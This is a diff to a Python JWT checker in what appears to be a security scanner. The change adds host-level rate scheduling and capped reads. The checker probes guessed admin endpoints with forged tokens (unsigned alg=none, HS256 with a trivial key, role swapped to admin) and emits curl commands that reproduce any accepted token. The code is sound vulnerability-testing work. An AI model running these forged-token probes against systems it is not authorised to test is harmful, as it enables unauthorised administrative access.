@@ -2,12 +2,14 @@ from __future__ import annotations
 import base64, json, httpx, jwt
 from dataclasses import dataclass
 from yarl import URL
+from .scheduler import HostScheduler
+from .streaming import PROBE_BYTES, read_capped
 PROTECTED_GUESSES=["/api/me","/api/user","/api/account","/admin","/dashboard"]
 @dataclass
 class JWTFinding: endpoint: str; vuln: str; curl: str; evidence: str
 class JWTChecker:
-    def __init__(self, client: httpx.AsyncClient, reporter, settings):
-        self.client=client; self.reporter=reporter; self.settings=settings
+    def __init__(self, client: httpx.AsyncClient, reporter, settings, scheduler: HostScheduler|None=None):
+        self.client=client; self.reporter=reporter; self.settings=settings; self.scheduler=scheduler or HostScheduler.from_settings(settings)
     async def run(self,endpoints:list[str]):
         roots=sorted({str(URL(u).with_path("/")) for u in endpoints if URL(u).scheme in ("http","https")})
         for root in roots:
@@ -15,19 +17,19 @@ class JWTChecker:
             for guess in PROTECTED_GUESSES:
                 url=str(URL(root).with_path(guess))
                 try:
-                    r=await self.client.get(url)
+                    async with self.scheduler.slot(url): r=await read_capped(self.client,url,PROBE_BYTES)
                     if r.status_code in (401,403): target=url; break
                 except Exception: continue
             if not target: continue
             none=self._make_alg_none({"sub":"test","role":"admin","iat":0})
             try:
-                r=await self.client.get(target, headers={"Authorization": f"Bearer {none}"})
+                async with self.scheduler.slot(target): r=await read_capped(self.client,target,PROBE_BYTES,headers={"Authorization": f"Bearer {none}"})
                 if r.status_code not in (401,403):
                     await self.reporter.generic_finding("JWT alg=none acceptance", target, f"Accepted unsigned JWT (status {r.status_code}).", f"curl -i -H 'Authorization: Bearer {none}' '{target}'")
             except Exception: pass
             try:
                 hs=jwt.encode({"sub":"test","role":"admin"}, key="none", algorithm="HS256")
-                r2=await self.client.get(target, headers={"Authorization": f"Bearer {hs}"})
+                async with self.scheduler.slot(target): r2=await read_capped(self.client,target,PROBE_BYTES,headers={"Authorization": f"Bearer {hs}"})
                 if r2.status_code not in (401,403):
                     await self.reporter.generic_finding("JWT key confusion (heuristic)", target, "Accepted HS256 token with trivial key.", f"curl -i -H 'Authorization: Bearer {hs}' '{target}'")
             except Exception: pass
@@ -36,7 +38,7 @@ class JWTChecker:
                 forged=self._swap_role(tok,"admin")
                 if not forged: continue
                 try:
-                    r3=await self.client.get(target,headers={"Authorization":f"Bearer {forged}"})
+                    async with self.scheduler.slot(target): r3=await read_capped(self.client,target,PROBE_BYTES,headers={"Authorization":f"Bearer {forged}"})
                     if r3.status_code not in (401,403):
                         ev=f"Modified token for role '{role}' accepted (status {r3.status_code})"
                         curl=f"curl -i -H 'Authorization: Bearer {forged}' '{target}'"